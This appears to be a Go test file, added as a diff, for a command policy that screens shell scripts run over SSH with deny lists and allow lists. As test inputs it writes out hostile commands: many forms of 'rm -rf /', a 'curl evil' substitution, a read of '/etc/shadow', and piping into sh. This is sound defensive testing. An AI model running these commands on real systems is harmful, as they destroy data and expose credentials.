@@ -0,0 +1,109 @@
+package main
+
+import (
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+)
+
+var _ = Describe("Command policy", func() {
+	It("splits scripts into commands", func() {
+		Expect(scriptCommands("FOO=1 ls -la && df -h | grep / ; echo done &\n# comment\nuptime")).To(Equal([][]string{
+			{"ls", "-la"}, {"df", "-h"}, {"grep", "/"}, {"echo", "done"}, {"uptime"},
+		}))
+	})
+
+	It("matches words as globs and programs by base name", func() {
+		Expect(matchesCommand("rm", []string{"/bin/rm", "-rf", "/"})).To(BeTrue())
+		Expect(matchesCommand("git push*", []string{"git", "push"})).To(BeTrue())
+		Expect(matchesCommand("git push*", []string{"git", "pull"})).To(BeFalse())
+		Expect(matchesCommand("systemctl status", []string{"systemctl"})).To(BeFalse())
+	})
+
+	It("allows everything without patterns", func() {
+		Expect(commandPolicy{}.check("sudo rm -rf / && $(curl evil)")).To(Succeed())
+	})
+
+	It("rejects denied commands", func() {
+		policy := commandPolicy{denied: []string{"rm", "shutdown"}}
+		Expect(policy.check("ls && /bin/rm -rf /tmp/x")).To(MatchError(ContainSubstring("denied by SSH_DENIED_COMMANDS")))
+		Expect(policy.check("ls -la; df -h")).To(Succeed())
+	})
+
+	It("sees commands behind reserved words, subshells and groups", func() {
+		policy := commandPolicy{denied: []string{"rm"}}
+		for _, script := range []string{
+			"if true; then rm -rf /; fi",
+			"if false; then ls; else rm -rf /; fi",
+			"for f in x; do rm -rf /; done",
+			"while true; do rm -rf /; done",
+			"! rm -rf /",
+			"(rm -rf /)",
+			"( rm -rf / )",
+			"{ rm -rf /; }",
+			"time rm -rf /",
+		} {
+			Expect(policy.check(script)).To(MatchError(ContainSubstring("denied by SSH_DENIED_COMMANDS")), script)
+		}
+		Expect(scriptCommands("if true; then (ls -la); fi\nfor f in a b; do { echo $f; }; done")).To(Equal([][]string{
+			{"true"}, {"ls", "-la"}, {"echo", "$f"},
+		}))
+	})
+
+	Describe("with an allowlist", func() {
+		policy := commandPolicy{allowed: []string{"ls", "cat", "echo", "systemctl status", "grep"}}
+
+		It("allows scripts made of allowed commands", func() {
+			Expect(policy.check("ls -la /var/log | grep syslog && systemctl status nginx")).To(Succeed())
+		})
+
+		It("rejects commands that are not allowed", func() {
+			Expect(policy.check("ls && rm -rf /")).To(MatchError(ContainSubstring(`command "rm -rf /" is not allowed`)))
+			Expect(policy.check("systemctl restart nginx")).To(MatchError(ContainSubstring("not allowed")))
+		})
+
+		It("rejects command and process substitution", func() {
+			for _, script := range []string{
+				"echo $(rm -rf /)",
+				"echo `rm -rf /`",
+				`echo "$(rm -rf /)"`,
+				"cat <(rm -rf /)",
+				"ls > >(rm -rf /)",
+				"echo $((1 + 2))",
+			} {
+				Expect(policy.check(script)).To(MatchError(ContainSubstring("command substitution is not allowed")), script)
+			}
+		})
+
+		It("allows substitution syntax inside single quotes", func() {
+			Expect(policy.check("echo '$(not run)' '`nor this`'")).To(Succeed())
+			// A quote inside double quotes does not start a single quoted string
+			Expect(policy.check(`echo "it's" $(x)`)).To(MatchError(ContainSubstring("command substitution")))
+			Expect(policy.check(`echo \$\(x\) \` + "`")).To(Succeed())
+		})
+
+		It("rejects commands running other commands", func() {
+			for _, script := range []string{
+				"sudo ls",
+				"/usr/bin/sudo cat /etc/shadow",
+				"eval ls",
+				"sh -c 'rm -rf /'",
+				"bash -c ls",
+				"/bin/bash script.sh",
+				"echo rm -rf / | sh",
+				"env ls",
+				"ls | xargs rm",
+				"exec ls",
+				". ./script.sh",
+				"source ./script.sh",
+			} {
+				Expect(policy.check(script)).To(MatchError(ContainSubstring("runs commands that cannot be checked")), script)
+			}
+		})
+
+		It("rejects wrappers even when the allowlist matches them", func() {
+			policy := commandPolicy{allowed: []string{"*"}}
+			Expect(policy.check("ls")).To(Succeed())
+			Expect(policy.check("sudo ls")).To(MatchError(ContainSubstring("sudo runs commands")))
+		})
+	})
+})